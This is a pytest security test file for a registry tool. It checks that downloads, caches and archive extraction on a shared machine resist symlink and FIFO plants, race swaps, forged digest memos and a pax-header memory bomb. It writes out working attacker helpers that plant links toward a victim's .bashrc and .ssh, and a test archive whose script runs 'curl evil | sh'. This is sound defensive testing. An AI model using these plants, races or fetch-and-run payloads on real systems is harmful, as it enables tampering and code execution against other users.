"""Safe on a shared machine: outdirs, caches and extract folders that other local accounts can
write. Another account (or a racing process of our own) plants symlinks, hard links, FIFOs and
files of its own at every name a pull uses, or swaps what was verified for other bytes; the pull
must neither write through them, nor hang, nor use, stamp or remember bytes it did not verify.

Every attack has a single-account variant that runs everywhere (the plant, or the race made
deterministic by a hook). The two-account variants need root: an attacker and a victim uid that
exist only here (no passwd entry), both in one group, umask 002, in a setgid group-writable
folder, run with ``setpriv``; they skip when the suite does not run as root.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import Result, Workspace
from tychoreg import Registry
from tychoreg import extract as unpack
from tychoreg.cache import RACY, Cache
from tychoreg.store.file import FileStore

ATTACKER, VICTIM, GROUP = 23451, 23452, 23450
MiB = 1 << 20
RC = b"# the victim's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def part_name(localname: str, data: bytes) -> str:
    """The resumable part file a pull of ``data`` uses beside its destination."""
    return f".{localname}.{sha(data)[:16]}-{len(data)}.part"


def tar_gz(members: dict[str, bytes], *, first: tuple[str, int] | None = None) -> bytes:
    """A .tar.gz of ``members`` (name -> bytes; a name ending in / is a folder), optionally after
    a large member of zeros that takes a while to write (the window a racing attacker needs)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        if first:
            info = tarfile.TarInfo(first[0])
            info.size, info.mode = first[1], 0o644
            tf.addfile(info, io.BytesIO(bytes(first[1])))
        for name, data in members.items():
            info = tarfile.TarInfo(name.rstrip("/"))
            if name.endswith("/"):
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tf.addfile(info)
            else:
                info.size, info.mode = len(data), 0o644
                tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tree(root: Path) -> dict[str, tuple]:
    """Everything under ``root`` (links not followed): kind, mode, bytes or target."""
    out: dict[str, tuple] = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        key = str(path.relative_to(root))
        if stat.S_ISLNK(st.st_mode):
            out[key] = ("link", os.readlink(path))
        elif stat.S_ISDIR(st.st_mode):
            out[key] = ("dir", stat.S_IMODE(st.st_mode))
        elif stat.S_ISREG(st.st_mode):
            out[key] = ("file", stat.S_IMODE(st.st_mode), st.st_uid, path.read_bytes())
        else:
            out[key] = ("special", stat.S_IFMT(st.st_mode))
    return out


@pytest.fixture
def fws(tmp_path: Path) -> Workspace:
    """A file-backend workspace with a HOME holding files worth attacking."""
    root = tmp_path / "project"
    root.mkdir()
    space = Workspace(root, "file", {"tycho": {"backend": "file"}, "file": {"path": str(tmp_path / "registry")}})
    space.write_config()
    home = root / "home"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    (home / ".bashrc").write_bytes(RC)
    (home / ".bashrc").chmod(0o644)
    return space


def home_files(ws: Workspace) -> dict[str, tuple]:
    """What the attacks aim at: HOME without the download cache."""
    return {k: v for k, v in tree(ws.root / "home").items() if not k.startswith(".cache")}


def cache_of(ws: Workspace) -> Cache:
    return Cache(ws.root / "home" / ".cache" / "tychoreg" / "files")


TOOLS = {"bin/": b"", "bin/tool": b"#!/bin/sh\necho genuine\n", "README": b"genuine tools\n"}


def publish(ws: Workspace, data: bytes | None = None) -> tuple[bytes, bytes]:
    """narf (a file) and tools (an archive), each at 1.0 and latest."""
    data = data if data is not None else os.urandom(300_000)
    archive = tar_gz(TOOLS)
    ws.ok("init", "narf", "narf.bin")
    ws.ok("init", "tools", "tools.tar.gz")
    ws.ok("push", "narf", "1.0", str(ws.file("narf.src", data)), "--promote-latest")
    ws.ok("push", "tools", "1.0", str(ws.file("tools.src", archive)), "--promote-latest")
    return data, archive


def assert_tools(folder: Path) -> None:
    assert (folder / "bin" / "tool").read_bytes() == TOOLS["bin/tool"]
    assert (folder / "README").read_bytes() == TOOLS["README"]
    assert not (folder / "bin" / "tool").is_symlink()


# -- 1. part files: never followed, never someone else's ------------------------------------


@pytest.mark.parametrize("plant", ["symlink", "dangling symlink", "hard link", "fifo"])
def test_planted_part_file_is_never_written_through(fws: Workspace, plant: str) -> None:
    data, _ = publish(fws)
    out = fws.root / "tycho_packages"
    out.mkdir()
    part = out / part_name("narf.bin", data)
    home = fws.root / "home"
    if plant == "symlink":
        os.symlink(home / ".bashrc", part)
    elif plant == "dangling symlink":
        os.symlink(home / ".ssh" / "authorized_keys", part)
    elif plant == "hard link":
        os.link(home / ".bashrc", part)
    else:
        os.mkfifo(part)
    before = home_files(fws)
    result = fws.run("pull", "narf", timeout=60)
    assert result.code == 0, result.all
    dest = out / "narf.bin"
    assert not dest.is_symlink() and dest.read_bytes() == data
    assert home_files(fws) == before  # .bashrc bytes and mode, and no authorized_keys created
    assert dest.stat().st_ino != (home / ".bashrc").stat().st_ino


def test_part_file_of_another_account_is_not_continued(fws: Workspace) -> None:
    """A part file that is someone else's (here: a valid prefix, so it would be resumed) must not
    become the destination: its owner could change the bytes after they were verified."""
    if os.geteuid() != 0:
        pytest.skip("making a file another account's needs root")
    data, _ = publish(fws)
    out = fws.root / "tycho_packages"
    out.mkdir()
    part = out / part_name("narf.bin", data)
    part.write_bytes(data[:100_000])
    os.chown(part, ATTACKER, ATTACKER)
    part.chmod(0o666)
    planted = part.stat().st_ino
    fws.ok("pull", "narf")
    dest = out / "narf.bin"
    assert dest.read_bytes() == data
    assert dest.stat().st_uid == os.geteuid() and dest.stat().st_ino != planted


def test_resumable_write_without_a_tag_is_fresh_private_and_cleaned_up(tmp_path: Path) -> None:
    """No tag: the caller cannot identify the content, so nothing may be resumed or left."""
    from tychoreg.localfs import resumable_write

    dest = tmp_path / "out" / "file.bin"
    names = []
    for _ in range(2):
        with pytest.raises(RuntimeError), resumable_write(dest, None) as fh:
            names.append(os.listdir(dest.parent))
            assert stat.S_IMODE(os.fstat(fh.fileno()).st_mode) == 0o600
            fh.write(b"half")
            raise RuntimeError("interrupted")
        assert os.listdir(dest.parent) == []  # removed on any failure, not kept for a resume
    assert names[0] != names[1]  # unpredictable
    old = os.umask(0o022)
    try:
        with resumable_write(dest, None) as fh:
            fh.write(b"whole")
    finally:
        os.umask(old)
    assert dest.read_bytes() == b"whole" and stat.S_IMODE(dest.stat().st_mode) == 0o644
    assert os.listdir(dest.parent) == ["file.bin"]


def test_part_file_swapped_before_the_rename_is_not_renamed_into_place(tmp_path: Path) -> None:
    """In a folder others can write, the part file is swapped for a link just before it would
    be renamed over the destination: the link must not become the destination."""
    from tychoreg.errors import OperationError
    from tychoreg.localfs import resumable_write

    rc = tmp_path / "home" / ".bashrc"
    rc.parent.mkdir()
    rc.write_bytes(RC)
    dest = tmp_path / "out" / "narf.bin"
    for tag in ("0123456789abcdef-5", None):
        with pytest.raises(OperationError, match="replaced by someone else") as info, resumable_write(dest, tag) as fh:
            fh.write(b"bytes")
            (part,) = [p for p in dest.parent.iterdir() if p.name.startswith(".narf.bin.")]
            part.rename(tmp_path / "moved-away")
            os.symlink(rc, part)  # the attacker's swap
        assert info.value.hint and "only you can write" in info.value.hint
        assert not dest.exists() and not dest.is_symlink()
        assert rc.read_bytes() == RC
        for p in dest.parent.iterdir():
            p.unlink()


def test_planted_links_in_the_cache_are_never_followed(fws: Workspace) -> None:
    """Every name the cache could use for a download or a copy, planted as a link into HOME."""
    data, archive = publish(fws)
    cache = cache_of(fws)
    home = fws.root / "home"
    tmp = cache.root / "tmp"
    tmp.mkdir(parents=True)
    for digest, size in ((sha(archive), len(archive)), (sha(data), len(data))):
        os.symlink(home / ".bashrc", tmp / f"{digest}.part")
        os.symlink(home / ".bashrc", tmp / f".{digest}.part.{digest[:16]}-{size}.part")
    os.symlink(home, tmp / f"uid-{os.geteuid()}")  # our private folder's name, as a link home
    os.symlink(home / "created-by-eviction", cache.root / ".evicted")
    before = home_files(fws)
    fws.ok("pull", "tools", "--extract", "tools")
    fws.ok("pull", "narf")
    assert_tools(fws.root / "tools")
    assert (fws.root / "tycho_packages" / "narf.bin").read_bytes() == data
    assert home_files(fws) == before


def test_cache_folders_swapped_for_links_receive_nothing(fws: Workspace) -> None:
    """An entry's folder (``sha256/ab``) planted as a link into HOME: entries are not linked
    there, and pruning does not delete files there that happen to have entry-like names."""
    data, _ = publish(fws)
    cache = cache_of(fws)
    victim = fws.root / "home" / "objects"
    victim.mkdir()
    lookalike = "f" * 64
    (victim / lookalike).write_bytes(b"someone's object store\n")
    (cache.root / "sha256").mkdir(parents=True)
    os.symlink(victim, cache.root / "sha256" / sha(data)[:2])
    os.symlink(victim, cache.root / "sha256" / "ff")
    fws.ok("pull", "narf")
    assert sorted(os.listdir(victim)) == [lookalike]
    fws.ok("cache", "prune")
    assert (victim / lookalike).read_bytes() == b"someone's object store\n"


def test_eviction_stamp_link_is_not_followed(fws: Workspace) -> None:
    fws.config["tycho"]["cache_limit"] = "1GiB"
    fws.write_config()
    publish(fws)
    cache = cache_of(fws)
    cache.root.mkdir(parents=True)
    target = fws.root / "home" / ".hushlogin"
    os.symlink(target, cache.root / ".evicted")
    fws.ok("pull", "narf")
    assert not target.exists()
    os.utime(fws.root / "home" / ".bashrc", (1_000_000, 1_000_000))
    os.unlink(cache.root / ".evicted")
    os.symlink(fws.root / "home" / ".bashrc", cache.root / ".evicted")
    os.utime(cache.root / ".evicted", (1, 1), follow_symlinks=False)  # the stamp looks stale
    fws.ok("cache", "prune")
    fws.ok("pull", "narf", "--force")  # a new entry: the size is checked, the stamp renewed
    assert (fws.root / "home" / ".bashrc").stat().st_mtime == 1_000_000


# -- 2. the extract staging folder ---------------------------------------------------------
# (the single-account variant, a hook that plants the link, is in test_extract.py)


# -- 3. verified, then swapped ----------------------------------------------------------------


@pytest.mark.parametrize("cached", [True, False], ids=["cache", "no-cache"])
def test_archive_swapped_after_verification_is_not_extracted(
    fws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cached: bool
) -> None:
    """Right after the archive was verified and right before it is unpacked, other bytes are
    renamed over it (a writer to a shared cache, or to the folder beside DIR)."""
    _, archive = publish(fws)
    evil = tar_gz({"bin/": b"", "bin/tool": b"#!/bin/sh\ncurl evil | sh\n", "EVIL": b"pwned\n"})
    cache = Cache(tmp_path / "cache" / "files") if cached else None
    reg = Registry(FileStore(fws.config["file"]["path"]), outdir=fws.root / "out", cache=cache)
    real = unpack.extract
    swapped: list[Path] = []

    def swap_then_extract(name: Path, *args, **kwargs):  # type: ignore[no-untyped-def]
        planted = Path(name).with_name(".planted")
        planted.write_bytes(evil)
        os.replace(planted, name)  # the attacker wins the race
        swapped.append(Path(name))
        return real(name, *args, **kwargs)

    monkeypatch.setattr(unpack, "extract", swap_then_extract)
    result = reg.pull("tools", extract=fws.root / "tools")
    monkeypatch.undo()
    assert swapped and result.extracted
    assert_tools(fws.root / "tools")
    assert not (fws.root / "tools" / "EVIL").exists()
    assert unpack.read_stamp(fws.root / "tools") == unpack.Stamp("tools", "1.0", sha(archive))
    if cached:  # the swapped entry is not trusted later either: the next pull downloads again
        shutil.rmtree(fws.root / "tools")
        assert reg.pull("tools", extract=fws.root / "tools").downloaded
        assert_tools(fws.root / "tools")


def test_editing_a_pulled_file_never_changes_the_cache_entry(fws: Workspace) -> None:
    data, _ = publish(fws)
    fws.ok("pull", "narf")
    dest = fws.root / "tycho_packages" / "narf.bin"
    entry = cache_of(fws).path(sha(data))
    assert entry.read_bytes() == data
    assert entry.stat().st_ino != dest.stat().st_ino
    assert stat.S_IMODE(entry.stat().st_mode) == 0o444
    with open(dest, "r+b") as fh:  # the user patches the pulled file in place
        fh.write(b"patched")
    assert entry.read_bytes() == data


# -- 8. pax headers ---------------------------------------------------------------------------


def test_pax_header_memory_bomb_stays_small(fws: Workspace) -> None:
    """100 members with 8 MB pax comments each: under 1 MB compressed, 800 MB of headers."""
    time_bin = shutil.which("time") or "/usr/bin/time"
    if not Path(time_bin).exists():
        pytest.skip("GNU time is needed to measure the peak memory of a run")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tf:
        for i in range(100):
            info = tarfile.TarInfo(f"f{i}")
            info.size, info.pax_headers = 1, {"comment": "c" * 8_000_000}
            tf.addfile(info, io.BytesIO(b"x"))
    assert len(buf.getvalue()) < 1 * MiB
    fws.ok("init", "bomb", "bomb.tar.gz")
    fws.ok("push", "bomb", "1.0", str(fws.file("bomb.tgz", buf.getvalue())), "--promote-latest")
    proc = subprocess.run(
        [time_bin, "-v", sys.executable, "-m", "tychoreg", "pull", "bomb", "--extract", "out"],
        cwd=fws.root,
        env=fws.base_env(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    peak_kib = int(re.search(r"Maximum resident set size \(kbytes\): (\d+)", proc.stderr).group(1))
    assert proc.returncode == 0, proc.stderr
    assert (fws.root / "out" / "f99").read_bytes() == b"x"
    assert peak_kib < 150 * 1024, f"peak RSS {peak_kib} KiB"
    fws.config["tycho"]["extract_limit"] = "100MB"  # 800 MB of headers count against the limit
    fws.write_config()
    refused = fws.run("pull", "bomb", "--extract", "out2")
    assert refused.code == 1 and "expands past the limit" in refused.err
    assert not (fws.root / "out2").exists()


# -- 10a. FIFOs where we read -------------------------------------------------------------------


def test_fifos_planted_where_we_read_never_hang(fws: Workspace) -> None:
    """As a cache entry (file and archive), as the extraction stamp, and as a digest memo."""
    data, archive = publish(fws)
    cache = cache_of(fws)
    for digest in (sha(data), sha(archive)):
        cache.path(digest).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(cache.path(digest))
    assert fws.run("pull", "narf", timeout=30).code == 0
    assert fws.run("pull", "tools", "--extract", "tools", timeout=30).code == 0
    assert (fws.root / "tycho_packages" / "narf.bin").read_bytes() == data
    assert_tools(fws.root / "tools")
    assert cache.path(sha(data)).read_bytes() == data  # the FIFO was replaced by a good entry

    stamp = fws.root / "tools" / unpack.STAMP_NAME
    stamp.unlink()
    os.mkfifo(stamp)
    result = fws.run("pull", "tools", "--extract", "tools", timeout=30)
    assert result.code == 0, result.all
    assert unpack.read_stamp(fws.root / "tools") is not None and stat.S_ISREG(stamp.lstat().st_mode)

    memo = cache._digest_record(fws.root / "tycho_packages" / "narf.bin")
    memo.parent.mkdir(parents=True, exist_ok=True)
    memo.unlink(missing_ok=True)
    os.mkfifo(memo)
    result = fws.run("pull", "narf", timeout=30)
    assert result.code == 0 and "up to date" in result.out.lower(), result.all


# -- 10b. forged digest memos ---------------------------------------------------------------------


@pytest.mark.parametrize("how", ["memo writable by others", "folder writable by others"])
def test_forged_digest_memo_is_not_believed(fws: Workspace, how: str) -> None:
    """A memo claiming the destination holds the new version (its stat copied from the file):
    the pull must look at the bytes and replace them."""
    v1 = os.urandom(50_000)
    v2 = os.urandom(50_000)
    fws.ok("init", "narf", "narf.bin")
    fws.ok("push", "narf", "1.0", str(fws.file("v1", v1)))
    fws.ok("push", "narf", "2.0", str(fws.file("v2", v2)), "--promote-latest")
    fws.ok("pull", "narf", "--version", "1.0")
    dest = fws.root / "tycho_packages" / "narf.bin"
    forge_memo(cache_of(fws)._digest_record(dest), dest, sha(v2))
    memo = cache_of(fws)._digest_record(dest)
    if how == "memo writable by others":
        memo.chmod(0o666)
    else:
        memo.parent.chmod(0o777)
    result = fws.ok("pull", "narf")
    assert dest.read_bytes() == v2, result.all


def forge_memo(memo: Path, dest: Path, claimed: str) -> None:
    st = dest.stat()
    record = {
        "path": str(dest.resolve()),
        "sha256": claimed,
        "at": time.time_ns() + 10**12,
        "stat": [st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns],
    }
    memo.parent.mkdir(parents=True, exist_ok=True)
    memo.write_text(json.dumps(record))


def test_a_genuine_memo_still_saves_the_hashing(fws: Workspace) -> None:
    """The memo is still used when it is ours: a settled, unchanged file is not hashed again."""
    data, _ = publish(fws)
    fws.ok("pull", "narf")
    time.sleep(RACY + 0.2)
    dest = fws.root / "tycho_packages" / "narf.bin"
    fws.ok("pull", "narf")  # hashes once more, now settled, and notes it
    assert cache_of(fws).known_digest(dest) == sha(data)


# -- two accounts ---------------------------------------------------------------------------------

RUN_CLI = """
    import runpy, sys
    sys.argv[0] = "tychoreg"
    runpy.run_module("tychoreg", run_name="__main__", alter_sys=True)
"""


@dataclass
class Accounts:
    """An attacker and a victim account in one group, around a setgid group-writable folder."""

    base: Path
    shared: Path
    home: Path
    config: Path
    registry: Path

    def env(self, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "TYCHOREG_", "XDG_"))}
        env.update({"HOME": str(self.home), "TYCHOREG_CONFIG": str(self.config), **extra})
        return env

    def command(self, uid: int, code: str, *args: str) -> list[str]:
        """Python ``code`` as ``uid`` (own private group plus the shared one), umask 002."""
        code = "import os\nos.umask(0o002)\n" + textwrap.dedent(code)
        return [
            "setpriv",
            f"--reuid={uid}",
            f"--regid={uid}",
            f"--groups={GROUP}",
            "--",
            sys.executable,
            "-c",
            code,
            *args,
        ]

    def victim(self, *args: str, timeout: float = 120, **env: str) -> Result:
        proc = subprocess.run(
            self.command(VICTIM, RUN_CLI, *args),
            cwd=self.shared,
            env=self.env(**env),
            capture_output=True,
            text=True,
            timeout=timeout,
        )
        result = Result(proc.returncode, proc.stdout, proc.stderr)
        assert "Traceback" not in result.all, result.all
        return result

    def attacker(self, code: str, *args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            self.command(ATTACKER, code, *args),
            cwd=self.shared,
            env=self.env(HOME=str(self.base)),
            capture_output=True,
            text=True,
            timeout=120,
            check=True,
        )

    def spawn_attacker(self, code: str, *args: str) -> subprocess.Popen:
        return subprocess.Popen(
            self.command(ATTACKER, code, *args),
            cwd=self.shared,
            env=self.env(HOME=str(self.base)),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def push(self, package: str, localname: str, version: str, data: bytes) -> None:
        src = self.base / f"{package}-{version}.src"
        src.write_bytes(data)
        for args in (["init", package, localname], ["push", package, version, str(src), "--promote-latest"]):
            proc = subprocess.run(
                [sys.executable, "-m", "tychoreg", *args],
                env=self.env(HOME=str(self.base)),
                capture_output=True,
                text=True,
                cwd=self.base,
            )
            assert proc.returncode == 0 or "already exists" in proc.stderr, proc.stderr

    def shared_folder(self, *parts: str) -> Path:
        """A folder under the shared one that the group can write (as an admin would make it)."""
        path = self.shared.joinpath(*parts)
        path.mkdir(parents=True, exist_ok=True)
        for p in [path, *path.parents]:
            if p == self.shared:
                break
            os.chown(p, 0, GROUP)
            p.chmod(0o2775)
        return path


@pytest.fixture
def accounts() -> Accounts:
    if os.geteuid() != 0:
        pytest.skip("two accounts need root (setpriv to uids that exist only for the test)")
    if not shutil.which("setpriv"):
        pytest.skip("setpriv (util-linux) is not installed")
    base = Path(tempfile.mkdtemp(prefix="tycho-accounts-"))
    try:
        base.chmod(0o755)
        shared = base / "shared"
        shared.mkdir()
        os.chown(shared, 0, GROUP)
        shared.chmod(0o2775)
        home = base / "victim"
        (home / ".ssh").mkdir(parents=True)
        (home / ".bashrc").write_bytes(RC)
        for path, mode in ((home, 0o700), (home / ".ssh", 0o700), (home / ".bashrc", 0o644)):
            os.chown(path, VICTIM, VICTIM)
            path.chmod(mode)
        registry = base / "registry"
        config = base / "tycho.json"
        config.write_text(json.dumps({"tycho": {"backend": "file"}, "file": {"path": str(registry)}}))
        space = Accounts(base, shared, home, config, registry)
        probe = subprocess.run(space.command(VICTIM, "import tychoreg"), capture_output=True, text=True, cwd=shared)
        if probe.returncode != 0:  # e.g. a virtualenv in a folder only root may enter
            pytest.skip(f"other accounts cannot run tychoreg with {sys.executable}: {probe.stderr.strip()}")
        yield space
    finally:
        shutil.rmtree(base, ignore_errors=True)


def victim_home(accounts: Accounts) -> dict[str, tuple]:
    return {k: v for k, v in tree(accounts.home).items() if not k.startswith(".cache")}


PLANT_LINKS = """
    import os, sys
    target, names = sys.argv[1], sys.argv[2:]
    planted = 0
    for name in names:
        try:
            os.makedirs(os.path.dirname(name), exist_ok=True)
            os.symlink(target, name)
            planted += 1
        except OSError as exc:
            print("could not plant", name, exc, file=sys.stderr)
    print(planted)
"""


def test_attacker_links_in_shared_outdir_and_cache(accounts: Accounts) -> None:
    data = os.urandom(200_000)
    archive = tar_gz(TOOLS)
    accounts.push("narf", "narf.bin", "1.0", data)
    accounts.push("tools", "tools.tar.gz", "1.0", archive)
    out = accounts.shared_folder("out")
    cache = Cache(accounts.shared_folder("cache", "files", "tmp").parent)
    names = [str(out / part_name("narf.bin", data))]
    for digest, size in ((sha(data), len(data)), (sha(archive), len(archive))):
        names += [
            str(cache.root / "tmp" / f"{digest}.part"),
            str(cache.root / "tmp" / f".{digest}.part.{digest[:16]}-{size}.part"),
        ]
    planted = accounts.attacker(PLANT_LINKS, str(accounts.home / ".bashrc"), *names)
    assert int(planted.stdout) == len(names), planted.stderr
    accounts.attacker(PLANT_LINKS, str(accounts.home), str(cache.root / "tmp" / f"uid-{VICTIM}"))
    before = victim_home(accounts)
    env = {"TYCHOREG_CACHE_DIR": str(cache.root.parent)}
    pulled = accounts.victim("pull", "narf", "--outfile", str(out / "narf.bin"), **env)
    assert pulled.code == 0, pulled.all
    extracted = accounts.victim("pull", "tools", "--extract", str(accounts.shared / "tools"), **env)
    assert extracted.code == 0, extracted.all
    assert victim_home(accounts) == before
    assert (out / "narf.bin").read_bytes() == data and not (out / "narf.bin").is_symlink()
    assert (out / "narf.bin").stat().st_uid == VICTIM
    assert_tools(accounts.shared / "tools")


RACE_STAGING = """
    import json, os, sys, time
    shared, target = sys.argv[1], sys.argv[2]
    deadline, tries, planted, seen = time.monotonic() + 60, 0, 0, set()
    while time.monotonic() < deadline and tries < 200000 and not os.path.exists(os.path.join(shared, "STOP")):
        for entry in os.scandir(shared):
            if entry.name.endswith(".extract"):
                seen.add(entry.name)
                tries += 1
                try:
                    os.symlink(target, os.path.join(entry.path, "a"))
                    planted += 1
                except OSError:
                    pass
        time.sleep(0.0002)
    print(json.dumps({"tries": tries, "planted": planted, "seen": len(seen)}))
"""


def test_attacker_racing_the_extraction_cannot_plant_into_it(accounts: Accounts) -> None:
    """The attacker watches the shared folder and, the moment a staging folder appears, plants
    ``a -> ~victim/.ssh`` in it; the archive's ``a/authorized_keys`` comes after a member that
    takes a while to write, so the attacker has all the time it needs."""
    key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA attacker@elsewhere\n"
    archive = tar_gz({"a/": b"", "a/authorized_keys": key}, first=("big", 96 * MiB))
    accounts.push("tools", "tools.tar.gz", "1.0", archive)
    racer = accounts.spawn_attacker(RACE_STAGING, str(accounts.shared), str(accounts.home / ".ssh"))
    try:
        time.sleep(0.5)  # the attacker is watching
        result = accounts.victim("pull", "tools", "--extract", str(accounts.shared / "tools"))
    finally:
        (accounts.shared / "STOP").touch()
        out, err = racer.communicate(timeout=120)
    race = json.loads(out)
    assert race["seen"] >= 1, (race, err)  # the race was really run
    assert os.listdir(accounts.home / ".ssh") == []
    assert race["planted"] == 0, race
    assert result.code == 0, result.all
    assert (accounts.shared / "tools" / "a" / "authorized_keys").read_bytes() == key
    assert not (accounts.shared / "tools" / "a").is_symlink()


def test_attacker_fifo_in_shared_cache_does_not_hang_the_victim(accounts: Accounts) -> None:
    data = os.urandom(100_000)
    archive = tar_gz(TOOLS)
    accounts.push("narf", "narf.bin", "1.0", data)
    accounts.push("tools", "tools.tar.gz", "1.0", archive)
    cache = Cache(accounts.shared_folder("cache", "files"))
    fifos = [str(cache.path(sha(data))), str(cache.path(sha(archive)))]
    accounts.attacker(
        """
        import os, sys
        for name in sys.argv[1:]:
            os.makedirs(os.path.dirname(name), exist_ok=True)
            os.mkfifo(name)
    """,
        *fifos,
    )
    env = {"TYCHOREG_CACHE_DIR": str(cache.root.parent)}
    pulled = accounts.victim("pull", "narf", "--outfile", str(accounts.shared / "narf.bin"), timeout=60, **env)
    assert pulled.code == 0, pulled.all
    extracted = accounts.victim("pull", "tools", "--extract", str(accounts.shared / "tools"), timeout=60, **env)
    assert extracted.code == 0, extracted.all
    assert (accounts.shared / "narf.bin").read_bytes() == data
    assert_tools(accounts.shared / "tools")


FORGE_MEMO = """
    import json, os, sys, time
    dest, claimed, *memos = sys.argv[1:]
    st = os.stat(dest)
    record = {"path": os.path.realpath(dest), "sha256": claimed, "at": time.time_ns() + 10**12,
              "stat": [st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns]}
    forged = 0
    for memo in memos:
        try:
            os.makedirs(os.path.dirname(memo), exist_ok=True)
            with open(memo + ".new", "w") as fh:
                fh.write(json.dumps(record))
            os.replace(memo + ".new", memo)
            forged += 1
        except OSError as exc:
            print("could not forge", memo, exc, file=sys.stderr)
    print(forged)
"""


def test_memo_forged_by_another_account_is_not_believed(accounts: Accounts) -> None:
    v1, v2 = os.urandom(40_000), os.urandom(40_000)
    accounts.push("narf", "narf.bin", "1.0", v1)
    accounts.push("narf", "narf.bin", "2.0", v2)
    cache_dir = accounts.shared_folder("cache")
    dest = accounts.shared / "narf.bin"
    name = hashlib.sha256(str(dest).encode()).hexdigest()
    memos = [
        cache_dir / "verified" / name[:2] / name,  # every place a memo about dest could be
        cache_dir / "verified" / f"uid-{VICTIM}" / name[:2] / name,
    ]
    accounts.attacker(
        """
        import os, sys
        for folder in sys.argv[1:]:
            os.makedirs(folder, exist_ok=True)
    """,
        *[str(m.parent) for m in memos],
    )  # before the victim ever uses the cache
    env = {"TYCHOREG_CACHE_DIR": str(cache_dir)}
    assert accounts.victim("pull", "narf", "--version", "1.0", "--outfile", str(dest), **env).code == 0
    forged = accounts.attacker(FORGE_MEMO, str(dest), sha(v2), *map(str, memos))
    assert int(forged.stdout) >= 1, forged.stderr
    result = accounts.victim("pull", "narf", "--version", "2.0", "--outfile", str(dest), **env)
    assert result.code == 0, result.all
    assert dest.read_bytes() == v2, result.all
